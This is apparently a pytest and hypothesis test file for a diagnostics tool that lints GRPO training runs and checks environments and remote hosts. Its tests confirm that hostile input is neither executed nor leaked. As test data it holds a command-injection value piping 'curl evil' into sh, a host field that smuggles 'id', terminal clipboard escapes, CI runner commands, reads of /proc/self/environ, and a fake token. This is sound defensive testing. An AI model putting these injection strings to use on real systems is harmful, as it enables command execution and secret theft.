"""What lies beside a run, and lists of hosts, of strangers: read or not, in every format; no escape, no leak."""

import json
import os
import re
import shlex
import subprocess
import sys
import time
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from diagnostics.__main__ import main
from diagnostics.collect import collection, environment
from diagnostics.lint import project_requirements
from diagnostics.nodes import hosts, reach
from diagnostics.output.output import FORMATS
from tests.diagnostics.test_given import INSTEAD

RUN = "swift rlhf --rlhf_type grpo --use_vllm true --num_generations 8 --model m --dataset d\n"
BESIDE = (
    "uv.lock", "poetry.lock", "pyproject.toml", "setup.py", "setup.cfg", "requirements.txt", "requirements-x.in",
    "environment.yml", "Dockerfile", "install.sh", "trl/__init__.py", "trl/version.py", "verl/version/version",
    "verl/__init__.py", "swift/version.py",
)  # fmt: skip
TOKEN = "hf_" + "aB3dE5gH7j" * 4
ACTS = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]")
# As a file of ten thousand brackets, of a number of five thousand digits, of a line of a megabyte.
TEXTS = {
    "brackets": "trl; " + "(" * 5000,
    "digits": "trl==" + "9" * 5000,
    "lock of digits": "a = " + "9" * 5000 + '\n[[package]]\nname = "trl"\nversion = "' + "9" * 5000 + '"\n',
    "one line": "trl==1.0 " * 110_000,
    "a comment of one line": "# " + "trl==1.0 " * 110_000,
    "parts": "trl==1" + ".1" * 400_000,
    "blanks": "trl" + " " * 900_000 + "==x",
    "tables": "[[" * 50_000 + "trl",
    "bytes": "trl==1.0\0\x1b]52;c;aGk=\x07\n::error::x\n\u202etrl==0.9",
    "secret": f"trl=={TOKEN}\ntrl @ https://ada:{TOKEN}@x/y\n",
}


@pytest.fixture
def lint(tmp_path, capsys, monkeypatch):
    """Lints a script in a folder of its own, in a format; returns exit code, output and errors."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    folder = tmp_path / "run"
    (folder / ".git").mkdir(parents=True)

    def run(form, script=RUN, name="run.sh"):
        (folder / name).write_text(script)
        project_requirements.read_project.cache_clear()
        code = main(["lint", str(folder / name), "--format", form])
        seen = capsys.readouterr()
        return code, seen.out, seen.err

    run.folder = folder
    return run


def harmless(form, seen):
    """An exit code of ours, and nothing that acts or is anybody's."""
    code, out, err = seen
    assert code in {0, 1, 3}, (form, err)
    text = out + err
    assert not ACTS.search(text), form
    assert TOKEN not in text, form
    assert form == "github" or not re.search(r"(?m)^\s*::", text), form
    assert "Traceback" not in text, form


@pytest.mark.parametrize("kind", TEXTS)
@pytest.mark.parametrize("name", BESIDE)
def test_a_file_beside_a_run_may_hold_anything(lint, kind, name):
    """In little time, too: the process's own, which load does not lengthen."""
    path = lint.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(TEXTS[kind].encode("utf-8", "surrogatepass"))
    began = time.process_time()
    harmless("json", lint("json"))
    assert time.process_time() - began < 5


@pytest.mark.parametrize("form", FORMATS)
def test_no_format_lets_out_what_a_file_beside_a_run_holds(lint, form):
    """A token, an escape, a command of a runner; in the file's name, too."""
    for name in ("requirements.txt", "requirements-\x1b]52;c;x\x07\n::error::.txt", "install\u202e.sh"):
        (lint.folder / name).write_text(TEXTS["bytes"] + "\n" + TEXTS["secret"])
    harmless(form, lint(form, name="run\x1b[31m\n::error::x.sh"))


@pytest.mark.parametrize("put", INSTEAD)
@pytest.mark.parametrize("name", BESIDE)
def test_what_is_no_file_beside_a_run_is_not_waited_for(lint, put, name):
    """A pipe, a device, something of the kernel, an enormous one."""
    path = lint.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    put(path)
    harmless("json", lint("json"))


@pytest.mark.parametrize(
    "named", ["/proc/self/environ", "/dev/zero", "pipe", "../secret.py", "a\x1b[31m.py", "."]
)
@pytest.mark.parametrize(
    "line",
    [
        "python {} --use_vllm true",
        "source {}",
        ". {}",
        "accelerate launch {} --x 1",
        "bash {}",
        "trl grpo --config {}",
    ],
)
def test_a_file_that_a_script_names_may_be_none(lint, monkeypatch, named, line):
    """Neither waited for nor told."""
    monkeypatch.setenv("SOME_TOKEN", TOKEN)
    os.mkfifo(lint.folder / "pipe")
    (lint.folder.parent / "secret.py").write_text(f"GRPOTrainer\nTOKEN = '{TOKEN}'\n")
    for form in ("json", "terminal", "markdown"):
        harmless(form, lint(form, line.format(shlex.quote(named)) + "\n" + RUN))


@pytest.mark.parametrize("options", [[], ["--fix-plan"]])
@pytest.mark.parametrize(
    "line", ["torch; " + "(" * 3000, "torch; python_version < '" + "9" * 4050 + "'", "torch>=" + "9" * 4080]
)
def test_a_requirement_may_be_of_brackets_or_digits(environment, capsys, line, options):
    """No check crashes over it, nor does the plan."""
    environment.add("vllm", "0.11.0", requires=(line,)).add("trl", "0.17.0", requires=(line,)).add(
        "torch", "2.8.0"
    )
    code = main(["doctor", "--prefix", str(environment.prefix), "--format", "json", *options])
    seen = capsys.readouterr()
    harmless("json", (code, seen.out, seen.err))
    assert '"crashed"' not in seen.out


HOSTILE = st.text(st.sampled_from("ab1 -=@:#.;'$`\"\\\t\x1b\u202e[]/é\u2028\x85"), max_size=30)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(HOSTILE, min_size=1, max_size=4))
@example(["a python=--help", "b prefix=-x"])
@example(["a python=/x;curl\u00a0evil|sh"])
def test_a_list_of_hosts_makes_words_or_is_refused(tmp_path, lines):
    """No word of a host is an option; over ssh the python is one word of the other side's shell."""
    path = tmp_path / "hosts"
    path.write_text("\n".join(lines), encoding="utf-8")
    found, refused = [], ""
    try:
        found = hosts.read(path)
    except hosts.HostsError as error:
        refused = str(error)
    assert bool(found) != bool(refused)
    assert "\n" not in refused
    for host in found:
        *_, dashes, target, there = reach.command(host, "", "", 5)
        python = host.python or (f"{host.prefix}/bin/python" if host.prefix else "python3")
        assert (dashes, target) == ("--", host.target)
        assert shlex.split(there) == [python, "-"]
        filled = reach.command(host, "go {host} {user} {port}", "", 5)
        assert filled == ["go", host.name, host.user, str(host.port or 22), python, "-"]
        assert not any(word.startswith("-") for word in (*filled[1:-1], target))


@pytest.mark.parametrize("form", FORMATS)
def test_what_a_host_is_called_and_says_acts_in_no_format(tmp_path, capsys, form):
    """What cannot be reached, or answers something else, with names and secrets in it: incomplete, exit code 3."""
    script = tmp_path / "go"
    script.write_text(
        f"#!/bin/sh\ncat > /dev/null\nprintf '\\033]52;c;x\\007\\n::error::x {TOKEN}\\n' >&2\necho '##vso[x]'\nexit 7\n"
    )
    script.chmod(0o755)
    path = tmp_path / "hosts"
    path.write_text("gpu-1 prefix=/home/ada/e\x1b[31m\ngpu-2 python=/x';id;'\n")
    words = ["doctor", "--hosts", str(path), "--host-command", f"{script} {{host}}", "--node-limit", "60"]
    code = main([*words, "--format", form])
    seen = capsys.readouterr()
    harmless(form, (code, seen.out, seen.err))
    assert code == 3
    assert "##vso[" not in seen.out + seen.err
    assert form == "terminal" or not re.search(r"gpu-[12]|/home/ada", seen.out)


def test_doctor_answers_in_a_folder_that_was_deleted(environment, tmp_path, capsys, monkeypatch):
    """As a job's own folder is, once somebody cleaned up: it failed with a fault of its own."""
    environment.add("trl", "0.24.0")
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert main(["doctor", "--prefix", str(environment.prefix)]) != 2
    assert "fault of its own" not in capsys.readouterr().err


def test_a_users_modules_are_not_taken_for_pythons_own(tmp_path):
    """`-m` puts the working folder first; there, `doctor` is to tell of them."""
    for name in ("random", "logging", "json", "signal", "copy"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('imported')\n")
    command = [sys.executable, "-m", "diagnostics", "doctor", "--format", "json"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert json.loads(done.stdout)["schema"] == "grpo-doctor.report.v1"
    assert "imported" not in done.stderr


def test_a_number_of_thousands_of_digits_that_another_machine_tells_is_none():
    """It has the form of a release, and Python reads no such number: it ended a check."""
    digits = "9" * 5000
    package = environment.Package("a", "1.0", "a-1.0.dist-info", "pip", (), f">={digits}")
    seen = collection.collect(None)
    seen = replace(seen, environment=replace(seen.environment, python=digits, packages={"a": package}))
    told = collection.from_json(seen.to_json()).environment
    assert (told.python, told.packages) == ("", {})
